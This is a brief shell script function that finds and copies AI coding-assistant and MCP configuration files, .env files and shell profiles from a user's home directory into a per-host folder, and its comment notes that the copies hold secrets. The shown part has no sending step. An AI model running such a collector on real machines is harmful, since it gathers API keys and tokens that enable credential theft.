
# This machine: what coding assistants and shells of its user are configured with. What is copied holds secrets.
collect_devices() {
    local below
    need tar devices || return 0
    below=$out/devices/$(hostname)/$(id -un)
    mkdir -p "$below"
    if (cd ~ && find . \( -name node_modules -o -name .git -o -name .cache \) -prune -o -type f \( -name .mcp.json -o -name .claude.json \
        -o -path '*/.claude/settings*.json' -o -name claude_desktop_config.json -o -path '*/.cursor/mcp.json' -o -path '*/.vscode/mcp.json' \
        -o -path '*/Code/User/mcp.json' -o -path '*/windsurf/mcp_config.json' -o -path '*/.copilot/mcp-config.json' -o -path '*/.gemini/settings.json' \
        -o -path '*/.codex/config.toml' -o -name .env -o -name '.env.*' -o -name .envrc -o -name .zshrc -o -name .bashrc -o -name .profile \) \
        -print0 | tar --null -T - -cf -) 2> "$work/errors" | tar -xf - -C "$below"; then
        saved=$((saved + $(find "$below" -type f | wc -l)))
    else
        lost "$below"
    fi
}
collect_devices
